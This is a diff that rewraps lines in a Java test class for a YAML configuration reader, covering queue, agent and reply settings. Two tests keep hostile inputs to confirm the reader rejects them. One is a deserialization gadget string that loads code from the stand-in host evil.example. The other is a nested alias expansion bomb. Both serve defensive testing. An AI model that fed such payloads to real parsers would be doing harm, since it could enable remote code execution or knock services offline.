@@ -38,7 +38,8 @@ class YamlFormatTest {
                         .setAgeing(Durations.fromMillis(1500))
                         .addSteps(Step.newBuilder().setAfter(Durations.ZERO).putSkills("german", 3))
                         .addSegments(SegmentRule.newBuilder().setSegment("vip").setPriority(-3)))
-                .addAgents(Agent.newBuilder().setId("null").setName("~").setPasswordHash("$argon2id$v=19$m=1,t=1,p=1$a$b"))
+                .addAgents(
+                        Agent.newBuilder().setId("null").setName("~").setPasswordHash("$argon2id$v=19$m=1,t=1,p=1$a$b"))
                 .addReplies(Reply.newBuilder().setText("first line\n  second: line\n\n{{customer.name}} \t- [x]\n"))
                 .build();
         var globex = Tenant.newBuilder().setId("globex").build();
@@ -99,8 +100,7 @@ class YamlFormatTest {
                 .contains(
                         new Problem("line 5, queues[0].priority", "'high' is no whole number"),
                         new Problem(
-                                "line 6, queues[0].ageing",
-                                "'90' is no duration; write seconds with an s, like 90s"),
+                                "line 6, queues[0].ageing", "'90' is no duration; write seconds with an s, like 90s"),
                         new Problem("line 7, queues[0].autoAccept", "'yes' is not true or false"),
                         new Problem("line 10, queues[0].steps[0].skills.german", "'five' is no whole number"),
                         new Problem("line 10, queues[0].steps[0].skills.german", "it is there twice"),
@@ -126,14 +126,18 @@ class YamlFormatTest {
     void nothingIsBuiltBecauseTheTextSaysSo() {
         var read = FORMAT.in("!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example\"]]");
 
-        assertThat(read.problems()).extracting(Problem::text).containsExactly("settings are expected here, like name: value");
+        assertThat(read.problems())
+                .extracting(Problem::text)
+                .containsExactly("settings are expected here, like name: value");
     }
 
     @Test
     void referencesAreRefusedBeforeTheyExplode() {
         var bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
         for (var i = 1; i < 30; i++) {
-            bomb.append("a%d: &a%d [".formatted(i, i)).append("*a%d, ".formatted(i - 1).repeat(9)).append("]\n");
+            bomb.append("a%d: &a%d [".formatted(i, i))
+                    .append("*a%d, ".formatted(i - 1).repeat(9))
+                    .append("]\n");
         }
 
         assertThat(FORMAT.in(bomb.toString()).problems())
